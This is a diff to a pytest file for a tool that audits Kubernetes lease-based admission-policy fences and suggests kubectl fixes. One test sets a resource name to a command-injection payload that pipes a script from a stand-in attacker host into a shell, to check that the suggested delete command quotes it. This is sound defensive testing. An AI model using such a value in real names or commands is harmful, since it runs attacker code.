@@ -42,7 +42,7 @@ def changed(kind: int, field: str, value: object) -> list[dict[str, Any]]:
 
 
 def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> list[str]:
-    reports = examine_fences(Documents(objects), FENCES if fences is None else fences)
+    reports = examine_fences(Documents(objects), FENCES if fences is None else fences, "policy.yaml")
     return [f"{report.subject}: {one.check}" for report in reports for one in report.findings]
 
 
@@ -53,7 +53,7 @@ def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> 
         pytest.param(applied(), [], id="as exported"),
         pytest.param([*applied(), LEASE, POD], [], id="with its lease and its pod"),
         pytest.param(applied()[:1], ["fence-not-applied"], id="the binding is not there"),
-        pytest.param(applied(mode="warn"), ["fence-drift", "fence-drift"], id="another mode"),
+        pytest.param(applied(mode="warn"), ["fence-drift", "fence-drift"], id="a milder mode"),
         pytest.param(applied(resources=["pods"]), ["fence-drift"], id="other resources"),
         pytest.param(applied(lease="shop/other"), ["fence-drift", "fence-drift"], id="another lease"),
         pytest.param(changed(0, "failurePolicy", "Ignore"), ["fence-drift"], id="it fails open"),
@@ -136,7 +136,7 @@ def test_a_token_without_its_binding() -> None:
 
 def test_parts_that_an_earlier_policy_left_are_named() -> None:
     left = manifests(stamped(name="gone", token=True))[:2]
-    (_, report) = examine_fences(Documents([*applied(), *left]), FENCES)
+    (_, report) = examine_fences(Documents([*applied(), *left]), FENCES, "policy.yaml")
     assert report.subject == "fence-gone.token"
     assert report.findings[0].fix == (
         "kubectl delete mutatingadmissionpolicybinding,mutatingadmissionpolicy fence-gone.token"
@@ -160,13 +160,35 @@ def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
     objects = applied(name="gone")
     for one in objects:
         one["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
-    (_, report) = examine_fences(Documents([*applied(), *objects]), FENCES)
+    (_, report) = examine_fences(Documents([*applied(), *objects]), FENCES, "policy.yaml")
     assert report.findings[0].fix.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
 
 
 def test_a_missing_lease_that_is_allowed_denies_nothing() -> None:
     fences = [made_fence(missing_lease="allow")]
     lease = {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}
-    (report,) = examine_fences(Documents([*applied(missing_lease="allow"), lease]), fences)
+    (report,) = examine_fences(Documents([*applied(missing_lease="allow"), lease]), fences, "policy.yaml")
     assert report.findings[0].message == "no lease has this name: no write is denied."
     assert FENCE["lease"] in report.findings[0].place
+
+
+EXPORT = (
+    "lease-webhook export fence policy.yaml --name shop-operator{} | kubectl apply --server-side --force-conflicts -f -"
+)
+
+
+@pytest.mark.parametrize(
+    ("mode", "objects", "fix"),
+    [
+        pytest.param("warn", applied(), "", id="stricter"),
+        pytest.param("audit", applied(mode="warn"), "", id="stricter, and refuses nothing"),
+        pytest.param("warn", applied(resources=["pods"]), EXPORT.format(" --mode deny"), id="stricter, of others"),
+        pytest.param("deny", applied(mode="warn"), EXPORT.format(""), id="milder"),
+        pytest.param("warn", changed(1, "validationActions", ["Deny"]), EXPORT.format(""), id="actions of no mode"),
+    ],
+)
+def test_a_fix_never_makes_a_fence_milder(mode: str, objects: list[dict[str, Any]], fix: str) -> None:
+    (report,) = examine_fences(Documents(objects), [made_fence(mode=mode)], "policy.yaml")
+    assert {one.fix for one in report.findings} == ({fix} if fix else set())
+    is_stricter = "--mode" in fix or not fix
+    assert report.note.startswith("fence-shop-operator is stricter than policy.yaml: set `mode: ") == is_stricter
